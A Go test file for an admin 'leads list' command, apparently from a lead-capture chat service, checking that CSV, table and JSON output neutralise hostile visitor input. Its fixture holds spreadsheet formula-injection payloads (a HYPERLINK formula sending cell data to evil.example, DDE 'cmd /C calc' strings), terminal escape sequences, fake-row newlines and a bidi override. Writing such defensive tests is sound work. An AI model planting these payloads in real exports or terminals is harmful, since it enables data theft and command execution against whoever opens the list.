package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/leadchat/leadchat/internal/lead"
	"github.com/leadchat/leadchat/internal/plan"
	"github.com/leadchat/leadchat/internal/postgres"
	"github.com/leadchat/leadchat/internal/postgres/pgtest"
)

func TestMain(m *testing.M) { pgtest.Main(m) }

// The lead a visitor could leave to attack whoever reads the list: formulas for the
// spreadsheet, and (in rows stored before input was checked for them) terminal escapes,
// newlines that fake a row and a bidirectional override.
var hostile = lead.Lead{
	FirstName: "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Kattints\")",
	LastName:  "\x1b[2J\x1b]0;pwned\x07",
	Email:     "+cmd|' /C calc'!A0@example.hu",
	Phone:     "-2+3",
	Service:   "Napelem\n2024-01-01 00:00  new  api  Hamis Sor",
	Note:      "@SUM(1+1)*cmd|' /C calc'!A0",
	Source:    lead.SourceChat,
}

// lister is a company in a fresh database, and leads list run in process on it.
type lister struct {
	t       *testing.T
	store   *postgres.Store
	dsn     string
	company uuid.UUID
}

func newLister(t *testing.T) lister {
	t.Helper()
	dsn := pgtest.NewDSN(t)
	store, err := postgres.Open(context.Background(), dsn, postgres.Options{MaxOpenConns: 2})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	c, err := store.CreateCompany(context.Background(), "Teszt Kft.", plan.Pro, plan.Override{})
	if err != nil {
		t.Fatal(err)
	}
	return lister{t: t, store: store, dsn: dsn, company: c.ID}
}

// list runs leads list --company with args and returns what it printed.
func (ls lister) list(args ...string) string {
	ls.t.Helper()
	var out, errOut bytes.Buffer
	cmd, rest, ok := Find(append([]string{"leads", "list", "--company", ls.company.String()}, args...))
	if !ok {
		ls.t.Fatal("no leads list command")
	}
	if err := cmd.Run(context.Background(), Env{Store: ls.store, Stdout: &out, Stderr: &errOut}, rest); err != nil {
		ls.t.Fatalf("leads list %v: %v\n%s", args, err, errOut.String())
	}
	return out.String()
}

func TestLeadsListNeutralisesClientText(t *testing.T) {
	t.Parallel()
	ls := newLister(t)
	l := hostile
	l.ID = uuid.New()
	l.Service += " \u202eexe.txt"
	if _, err := ls.store.CreateLead(context.Background(), ls.company, l, nil, nil); err != nil {
		t.Fatal(err)
	}
	list := ls.list

	t.Run("csv cells that a spreadsheet would run are prefixed", func(t *testing.T) {
		rows, err := csv.NewReader(strings.NewReader(list("--csv"))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("rows %q, %v", rows, err)
		}
		cell := map[string]string{}
		for i, h := range rows[0] {
			cell[h] = rows[1][i]
		}
		for field, want := range map[string]string{
			"first_name": "'" + l.FirstName, "email": "'" + l.Email, "phone": "'" + l.Phone,
			"details": "'" + l.Note, "last_name": l.LastName, "service": l.Service, "source": "chat",
		} {
			if cell[field] != want {
				t.Errorf("%s = %q, want %q", field, cell[field], want)
			}
		}
	})

	t.Run("the table escapes control characters, newlines and bidi controls", func(t *testing.T) {
		out := list()
		if i := strings.IndexFunc(out, func(r rune) bool {
			return r < 0x20 && r != '\n' || r == 0x7f || r == 0x202e
		}); i >= 0 {
			t.Errorf("raw control character %q in the table:\n%s", out[i], out)
		}
		lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if len(lines) != 3 || lines[2] != "1 lead" {
			t.Errorf("want a header, one row and the count, got %d lines:\n%s", len(lines), out)
		}
		for _, want := range []string{`\x1b[2J\x1b]0;pwned\a`, `Napelem\n2024-01-01`, `\u202eexe.txt`} {
			if !strings.Contains(out, want) {
				t.Errorf("table lacks %s:\n%s", want, out)
			}
		}
	})

	t.Run("json escapes bidi controls and reads back the same", func(t *testing.T) {
		out := list("--json")
		if strings.ContainsRune(out, 0x202e) || strings.ContainsRune(out, 0x1b) {
			t.Errorf("raw control character in the JSON:\n%s", out)
		}
		var leads []map[string]any
		if err := json.Unmarshal([]byte(out), &leads); err != nil || len(leads) != 1 || leads[0]["service"] != l.Service {
			t.Errorf("leads = %v, %v", leads, err)
		}
	})
}

// leads list --json writes a chat lead's details as the API does: the note and the questions
// the assistant handed over.
func TestLeadsListJSONHasUnansweredQuestions(t *testing.T) {
	ls := newLister(t)
	l := lead.Lead{ID: uuid.New(), Email: "anna@example.hu", Source: lead.SourceChat,
		Note: "Nyitott kérdések: „Van parkoló?”", Unanswered: []string{"Van parkoló?"}}
	if _, err := ls.store.CreateLead(context.Background(), ls.company, l, nil, nil); err != nil {
		t.Fatal(err)
	}
	var leads []struct {
		Details struct {
			Note       string   `json:"note"`
			Unanswered []string `json:"unanswered_questions"`
		} `json:"details"`
	}
	if err := json.Unmarshal([]byte(ls.list("--json")), &leads); err != nil || len(leads) != 1 {
		t.Fatalf("leads = %+v, %v", leads, err)
	}
	if d := leads[0].Details; d.Note != l.Note || len(d.Unanswered) != 1 || d.Unanswered[0] != "Van parkoló?" {
		t.Errorf("details = %+v", d)
	}
}
